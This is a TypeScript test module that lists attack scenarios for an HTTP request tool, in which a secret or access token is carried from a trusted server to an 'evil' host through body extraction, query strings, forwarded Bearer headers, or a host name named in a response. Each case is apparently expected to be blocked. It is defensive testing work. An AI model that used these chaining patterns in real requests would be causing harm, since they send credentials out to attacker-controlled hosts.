import { type Attack, extracting, KEY, notAllowed, TOKEN, unbound } from './attacks.js'
import { answerJson } from './http-server.js'
import { httpStep } from './run.js'

/** Ways for what a server gave for a secret, or the secret that it repeats, to get to another server. */
export const attacksByAnswers: Readonly<Record<string, Attack>> = {
  'an answer that repeats it': {
    steps: ({ good, evil }) => ({
      1: httpStep('a', good, { authentication: KEY, extractors: [{ name: 'x', type: 'BODY' }] }),
      2: httpStep('b', `${evil}/?a=\${x}`),
    }),
    answer: () => (request, response) => response.end(JSON.stringify(request.headers)),
    ends: notAllowed,
  },
  'an answer that repeats a part of it, by way of another step': {
    steps: ({ good, evil }) => ({
      1: httpStep('a', good, { authentication: KEY, extractors: [{ name: 'x', type: 'BODY', regex: 'value.of' }] }),
      2: httpStep('b', `${good}/?a=\${x}`, { extractors: [{ name: 'y', type: 'BODY' }] }),
      3: httpStep('c', evil, { headers: { 'X-A': '${y}' } }),
    }),
    answer: () => (request, response) => response.end(`${request.path} ${JSON.stringify(request.headers)}`),
    ends: notAllowed,
  },
  'what was obtained with it': {
    steps: ({ good, evil }) => ({
      1: httpStep('a', good, {
        authentication: KEY,
        extractors: [{ name: 'x', type: 'BODY', path: '$.access_token' }],
      }),
      2: httpStep('b', evil, { headers: { Authorization: 'Bearer ${x}' } }),
    }),
    ends: notAllowed,
  },
  'a host that another answer gives, to what was obtained with it': {
    steps: ({ good }) => ({
      1: httpStep('a', good, {
        authentication: KEY,
        extractors: [{ name: 't', type: 'BODY', path: '$.access_token' }],
      }),
      2: extracting(good),
      3: httpStep('c', '${x}/path', { headers: { Authorization: 'Bearer ${t}' } }),
    }),
    options: unbound,
    answer: ({ evil }) => answerJson({ x: evil, access_token: TOKEN }),
    ends: notAllowed,
  },
}
